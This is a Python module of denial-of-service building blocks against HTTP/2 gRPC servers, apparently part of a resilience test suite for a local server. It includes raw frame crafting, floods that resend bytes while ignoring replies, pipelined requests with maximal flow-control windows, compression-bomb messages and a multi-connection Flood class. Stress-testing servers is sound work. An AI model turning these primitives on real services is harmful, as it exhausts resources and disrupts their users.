# SPDX-License-Identifier: MIT
"""Building blocks of attacks: repeat, do not read, pipeline, send small messages that inflate to
large ones."""
import contextlib
import gzip
import selectors
import socket
import struct
import time
import zlib

import wire
from watch import ATTACK_SECONDS
from wire import (DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PREFACE, SETTINGS,
                  WINDOW_UPDATE, Wire, message)

PROTOCOL_ERROR, STREAM_CLOSED, CALM = 1, 5, 0xb
WIDE = 2 ** 31 - 1
MESSAGE_MAX = 4 << 20  # the default of max-message-size
HEALTH = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.{}.ServerReflection/ServerReflectionInfo"


def again(seconds=ATTACK_SECONDS):
    """Yields until `seconds` have passed, at least once: an attack is repeated for that long."""
    end = time.monotonic() + seconds
    while True:
        yield
        if time.monotonic() > end:
            return


def closed_with(connection, seconds=20):
    """Reads until the server closes. @return the error code of its GOAWAY; None: it sent none"""
    with contextlib.suppress(OSError):
        return connection.wait_close(seconds)
    return connection.goaway[0] if connection.goaway else None


def blast(connection, data, times, read=False):
    """Sends the same bytes `times` times, and ignores answers.
    @return True: the server has closed; False: it does not read any more"""
    connection.sock.settimeout(0.3)
    for _ in range(times):
        try:
            connection.sock.sendall(data)
        except TimeoutError:
            return False
        except OSError:
            return True
        if read and not connection.read(0):
            return True
    return True


def headers(connection, flags=END_HEADERS | END_STREAM, path="GetUser", number=None, **changes):
    """Makes a request's HEADERS frame, without sending it. @return (its stream, the frame)"""
    path = wire.SERVICE + path if path[:1] != "/" else path
    block = connection.encoder.encode(connection.fields(path, **changes))
    if number is None:
        number, connection.next_stream = connection.next_stream, connection.next_stream + 2
    return number, connection.frame(HEADERS, flags, number, block)


def frames(connection, number, payload, end=True):
    """@return the whole payload in DATA frames, without regard to windows"""
    parts = [payload[at:at + 16384] for at in range(0, len(payload), 16384)]
    return b"".join(connection.frame(DATA, END_STREAM if end and part is parts[-1] else 0, number,
                                     part) for part in parts)


def requests(connection, count, path, body, end=True, **changes):
    """@return `count` whole requests, one after the other, as bytes"""
    out = []
    for _ in range(count):
        number, frame = headers(connection, END_HEADERS, path, **changes)
        out.append(frame + frames(connection, number, body, end))
    return b"".join(out)


def squeezed(body, encoding="gzip"):
    """@return a compressed message"""
    return message(gzip.compress(body, 9) if encoding == "gzip" else zlib.compress(body, 9), 1)


def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def literal(name, value):
    """@return a header field as a literal without indexing (RFC 7541 6.2.2) and without Huffman"""
    out = b"\0"
    for text in (name.encode(), value.encode()):
        length = bytes([len(text)]) if len(text) < 127 else b"\x7f" + varint(len(text) - 127)
        out += length + text
    return out


def full_of(field):
    """@return a message of the maximum size that consists of this field only"""
    return field * (MESSAGE_MAX // len(field))


def one_text(field, size=MESSAGE_MAX):
    """@return a message of this size with one string in it"""
    length = size - 1 - len(varint(size))
    return bytes([field << 3 | 2]) + varint(length) + b"a" * length


def script(count, path, body):
    """@return all bytes of a client's connection: preface, maximum windows, `count` requests. They
    can be sent on any number of connections, since nothing in them depends on answers."""
    connection = Wire(None, hello=False)
    hello = PREFACE + connection.frame(SETTINGS, 0, 0,
                                       struct.pack(">HI", INITIAL_WINDOW_SIZE, WIDE))
    wider = connection.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - 65535))
    return hello + wider + requests(connection, count, path, body)


class Counter(Wire):
    """Counts the bytes of response bodies without keeping them."""
    counted = 0

    def take(self, kind, flags, number, payload):
        if kind == DATA:
            self.counted += len(payload)
            payload = b""
        super().take(kind, flags, number, payload)


class Flood:
    """Sends a script on many connections as fast as they accept it, and discards answers. Use as
    a context manager; each call of run() continues."""

    def __init__(self, rosterd, count, data, read=True):
        self.data, self.read = memoryview(data), read
        self.selector = selectors.DefaultSelector()
        self.taken = 0
        for _ in range(count):
            sock = rosterd.connect()
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.setblocking(False)
            events = selectors.EVENT_WRITE | (selectors.EVENT_READ if read else 0)
            self.selector.register(sock, events, [0])

    def turn(self, sock, at, events):
        with contextlib.suppress(BlockingIOError):
            if events & selectors.EVENT_READ and not sock.recv(1 << 18):
                raise ConnectionResetError
        if events & selectors.EVENT_WRITE:
            with contextlib.suppress(BlockingIOError):
                sent = sock.send(self.data[at[0]:at[0] + 65536])
                at[0] += sent
                self.taken += sent
            if at[0] == len(self.data):
                self.selector.modify(sock, selectors.EVENT_READ, at)

    def run(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for key, events in self.selector.select(0.05):
                try:
                    self.turn(key.fileobj, key.data, events)
                except OSError:
                    self.selector.unregister(key.fileobj)
                    key.fileobj.close()
        return self

    @property
    def open(self):
        return len(self.selector.get_map())

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for key in list(self.selector.get_map().values()):
            key.fileobj.close()
        self.selector.close()
